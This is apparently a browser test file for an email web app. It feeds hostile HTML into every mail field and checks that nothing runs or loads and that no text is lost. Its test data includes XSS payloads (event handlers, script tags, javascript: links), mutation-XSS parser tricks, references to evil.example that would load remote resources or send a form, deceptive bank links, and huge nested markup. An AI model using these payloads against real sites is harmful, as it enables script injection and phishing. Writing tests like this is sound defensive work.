// Mail that attacks the page: markup in every field a stranger or an agent can fill, and HTML that is hostile or huge.
// Nothing runs, nothing is fetched, and the page stays usable.
import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import { api, withBrowser } from "./browser.mjs";

const XSS = `"><img src=x onerror="document.title='owned'"><script>document.title='owned'</script>{{7*7}}`;
const NESTED = `${"<div>".repeat(10_000)}deep${"</div>".repeat(10_000)}`;
const TABLE = `<table>${"<tr><td>1<td>2<td>3</tr>".repeat(20_000)}</table>`;
const HTML = [
  `<style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/b) }</style>`,
  `<link rel=stylesheet href=https://evil.example/c.css><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/d)" onclick="top.document.title='owned'">Styled</p>`,
  `<form action=https://evil.example/><input name=password autofocus onfocus="top.document.title='owned'"><button>Send</button></form>`,
  `<img src=https://evil.example/pixel.gif alt="A picture"><img src=data:text/html,<script>alert(1)</script>><svg onload="top.document.title='owned'"><script>1</script></svg>`,
  `<a href="javascript:top.document.title='owned'">Link</a> <a href=https://evil.example/login>https://bank.example</a><iframe src=https://evil.example/></iframe>`,
  `<p title='"><script>top.document.title="owned"</script>'>Quoted</p> 1 < 2 &amp; 3 &lt;b&gt; <!-- hidden --> <p `, `unclosed="`,
].join("\n");

/** A reader's browser shows PAY in each, and the target of each link has to be seen. */
const SHOWN = [
  "<p>a</p><svg/><p>PAY</p>", "<math/>PAY", "<svg><p>PAY</p></svg>", "<svg><style><p>PAY</style>", "<svg><text><style/>PAY</style></text></svg>", "<svg><text><![CDATA[PAY]]></text></svg>",
  "<!-- x --!><p>PAY</p><!-- -->", "<!-->PAY<!-- -->", "<!--->PAY<!-- -->", "<!--!>no--!>PAY", "<!doctype x '>PAY'>", "</ x='>PAY'>",
  "<xmp>PAY</xmp>", "<xmp><!--</xmp>PAY-->", "<plaintext><script>PAY", "<applet>PAY</applet>", "<select><option><style>PAY</style></select>",
  '<b\u00a0x="><p>PAY</p>">', '<p\u000bx="><p>PAY</p>">', "<noscript>PAY</noscript>", "<script><!--</script>PAY-->", "<title></titlex></title >PAY", "<button>PAY</button>", "<details>x<summary>PAY</summary></details>",
  `${"<p>x".repeat(150)}PAY<a href=https://evil.example>https://bank.example</a>`, `${"<div>".repeat(200)}PAY<a href=https://evil.example>https://bank.example</a>`,
  `${"<table><tr><td>x<td>".repeat(3)}<table>${"<tr><td>x<td>y".repeat(60)}PAY<a href=https://evil.example>https://bank.example<td>z</table>`, "<p>PAY<a href=https://evil.example>https://bank.example",
];
/** Not in the text of a page, or not seen in a browser. Some mail programs show it, so the frame does, too. */
const QUOTED = [
  "<noframes>PAY</noframes>", "<noembed>PAY</noembed>", "<template><p>PAY</template>", "<iframe>PAY</iframe>", "<iframe srcdoc=PAY></iframe>", "<object>PAY</object>", "<audio>PAY</audio>", "<video>PAY</video>",
  "<!-- PAY", "<p title='PAY", "<style>PAY", "<title>PAY", "<textarea>PAY</textarea>", "<input value=PAY>", "<input placeholder=PAY>", "<option label=PAY>", "<image alt=PAY src=x>",
];
/** Random mails are made of these. `#` becomes a word. */
const PIECES = ["#", "#", "#", " # ", ..."svg svg/ math math/ mtext style script title textarea xmp select option template noscript object video p p table tr td ul li a b div desc foreignObject annotation-xml"
  .split(" ").flatMap((name) => [`<${name}>`, name.endsWith("/") ? "#" : `</${name}>`]), "<!--", "-->", "--!>", "<!", "<?", "</", ">", "<", "'", '"', "<p a='", '<p a="', "<![CDATA[", "]]>", "<b ", "\u00a0", "/>"];

await api("POST", "/v1/rules", { name: XSS.slice(0, 100), direction: "outbound", actions: [{ type: "approve" }], match: { conditions: [{ field: "subject", operator: "contains", value: "img" }] } });
const hold = async (html) => (await api("POST", "/v1/emails", {
  from: `"${XSS.replaceAll('"', "'")}" <agent@mailonce.test>`, to: ["eve@example.com"], subject: XSS, text: XSS, html,
  attachments: [{ filename: `${XSS.replaceAll("/", "")}.txt`, content: "aGVsbG8=" }],
}, { "idempotency-key": `xss-${html.length}`, "mailonce-call-id": encodeURIComponent(XSS) })).id;
await api("POST", "/v1/escalations", { question: XSS, entity: XSS });

const unharmed = async (page) => {
  assert.notEqual(await page.title(), "owned");
  assert.equal(await page.locator("main img, main script, main form").count(), 0);
};

const bundleMailHtml = async () => {
  const { outputFiles } = await build({ entryPoints: [fileURLToPath(new URL("../src/components/mail-html.ts", import.meta.url))], bundle: true, format: "esm", write: false });
  return import(`data:text/javascript;base64,${Buffer.from(outputFiles[0].contents).toString("base64")}`);
};

/** The text that Chromium shows of each document, without running anything. */
const textsOf = (page, documents) => page.evaluate((all) => all.map((text) => {
  const frame = document.createElement("iframe");
  frame.sandbox.add("allow-same-origin");
  document.body.append(frame);
  const { contentDocument: inner } = frame;
  inner.open();
  inner.write(text);
  inner.close();
  const shown = inner.body?.innerText ?? "";
  frame.remove();
  return shown;
}), documents);

/** Small, fast and the same each time (mulberry32). */
const randomNumbers = (seed) => () => {
  seed = (seed + 0x6d2b79f5) | 0;
  let mixed = Math.imul(seed ^ (seed >>> 15), seed | 1);
  mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
  return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
};

const randomMail = (random) => {
  let words = 0;
  const pieces = Array.from({ length: 4 + Math.floor(random() * 14) }, () => PIECES[Math.floor(random() * PIECES.length)]);
  return pieces.join("").replaceAll("#", () => `word${(words += 1)}.`);
};

/** What a reader's browser shows of a mail, the frame shows. */
const nothingIsLost = async ({ context }) => {
  const { safeMailDocument, hasHidden } = await bundleMailHtml();
  const page = await context.newPage();
  const shown = await textsOf(page, SHOWN);
  const safe = await textsOf(page, SHOWN.map((html) => safeMailDocument(html)));
  for (const [index, html] of SHOWN.entries()) {
    assert.ok(shown[index].includes("PAY") && safe[index].includes("PAY"), `${html}: ${shown[index]} / ${safe[index]}`);
    if (html.includes("evil.example")) assert.ok(safe[index].includes("[https://evil.example]"), html);
  }
  for (const [index, text] of (await textsOf(page, QUOTED.map((html) => safeMailDocument(html)))).entries()) assert.ok(text.includes("PAY"), `${QUOTED[index]}: ${text}`);
  for (const html of ["<td bgcolor=black>", "<font color=white>", "<font color='#eee'>", "<font color=chucknorris>", "<td bgcolor='#202020'>"]) assert.ok(!safeMailDocument(html).includes("color="), html);
  for (const html of ["<td bgcolor='#ffeecc'>", "<font color='#a00000'>", "<font color=red>"]) assert.ok(safeMailDocument(html).includes("color="), html);
  assert.ok(hasHidden(safeMailDocument("<noframes>PAY</noframes>")) && !hasHidden(safeMailDocument(HTML.slice(0, HTML.indexOf("unclosed") - 3))));
  const random = randomNumbers(1);
  const mails = Array.from({ length: 300 }, () => randomMail(random));
  const [theirs, ours] = [await textsOf(page, mails), await textsOf(page, mails.map((html) => safeMailDocument(html)))];
  for (const [index, html] of mails.entries()) {
    for (const [word] of theirs[index].matchAll(/word\d+\./g)) assert.ok(ours[index].includes(word), `${word} of ${JSON.stringify(html)} is not in ${JSON.stringify(ours[index])}`);
  }
  await page.close();
};

await withBrowser(async ({ page, context, goto, picture }) => {
  await nothingIsLost({ context });
  page.on("dialog", () => assert.fail("a dialog was opened"));
  const emails = [await hold(HTML), await hold(`<p>Nested</p>${NESTED}`), await hold(`<p>Table</p>${TABLE}`)];
  await goto("/needs-you");
  await page.getByText("{{7*7}}").first().waitFor();
  await unharmed(page);
  for (const [index, words] of ["Styled", "Nested", "Table"].entries()) {
    await goto(`/emails/${emails[index]}`);
    await page.frameLocator("iframe").getByText(words, { exact: true }).waitFor();
    // The page still answers: 60,000 cells do not keep it busy.
    await page.getByRole("tab", { name: "Timeline" }).click();
    await page.getByRole("table", { name: "Timeline" }).waitFor();
    await unharmed(page);
    await page.getByRole("tab", { name: "Raw" }).click();
  }
  await goto(`/emails/${emails[0]}`);
  const body = page.frameLocator("iframe").locator("body");
  const text = await body.innerText();
  for (const part of ["[A picture · not loaded: https://evil.example/pixel.gif]", "[https://evil.example/login]", "[javascript:", "1 < 2 & 3 <b>"]) assert.ok(text.includes(part), `${part}: ${text}`);
  assert.equal(await body.locator("form, input, script, svg, iframe, style, [style], [onclick], [href]").count(), 0);
  await page.locator("iframe").scrollIntoViewIfNeeded();
  await picture("hostile");
  await goto(`/emails/${await hold(`<noframes>Pay 901</noframes><svg/><p>Pay 900</p>${"<small>".repeat(50)}Pay 902`)}`);
  await page.getByText("Not all of the HTML is shown as usual").waitFor();
  const partly = await page.frameLocator("iframe").locator("body").innerText();
  const size = await page.frameLocator("iframe").getByText("Pay 902", { exact: true }).evaluate((element) => Number.parseFloat(getComputedStyle(element).fontSize));
  assert.ok(size >= 11, `text of ${size} px`);
  for (const part of ["Pay 900", "[hidden in <noframes>: Pay 901]"]) assert.ok(partly.includes(part), partly);
  await goto("/emails");
  await page.getByText("{{7*7}}").first().waitFor();
  await unharmed(page);
  await goto("/");
  await page.getByText("{{7*7}}").first().waitFor();
  await unharmed(page);
});
